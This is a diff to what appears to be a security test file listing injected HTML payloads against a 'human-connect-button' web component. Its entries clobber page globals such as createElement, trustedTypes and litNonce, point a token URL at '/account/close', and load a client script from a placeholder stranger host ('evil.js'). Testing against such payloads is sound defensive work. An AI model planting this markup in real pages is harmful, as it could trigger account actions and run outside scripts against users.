@@ -26,7 +26,7 @@ const injected: Record<string, string> = {
   "a token of a stranger": `<human-connect-button prepare-on="mount" user="anybody" prefetch-token token-url="%STRANGER%/token" ${own}></human-connect-button>`,
   "a follower": `<human-connect-button id="leader" user="anybody" prefetch-token token-url="/account/close" ${own}></human-connect-button><human-connect-button for="leader" prepare-on="mount"></human-connect-button>`,
   "a shadow root": `<human-connect-button prepare-on="mount" user="anybody" prefetch-token token-url="/account/close" ${own}><template shadowrootmode="open"><button autofocus></button></template></human-connect-button>`,
-  "names of the page's own things": `<img name="baseURI"><img name="body"><img name="createTextNode"><a id="trustedTypes"></a><a id="customElements"></a><a id="reactiveElementVersions"></a><iframe name="reactiveElementPolyfillSupport"></iframe><a id="ShadyCSS"></a><a id="litNonce"></a><human-connect-button prepare-on="mount" user="anybody" prefetch-token token-url="/account/close" client-url="%STRANGER%/evil.js"></human-connect-button>`,
+  "names of the page's own things": `<img name="baseURI"><img name="body"><img name="createElement"><img name="createTextNode"><a id="trustedTypes"></a><a id="customElements"></a><a id="reactiveElementVersions"></a><iframe name="reactiveElementPolyfillSupport"></iframe><a id="ShadyCSS"></a><a id="litNonce"></a><human-connect-button prepare-on="mount" user="anybody" prefetch-token token-url="/account/close" client-url="%STRANGER%/evil.js"></human-connect-button>`,
 };
 const kinds = Object.keys(injected);
 /** The site's own, last on the page: when it has been prepared, the others had their turn. */
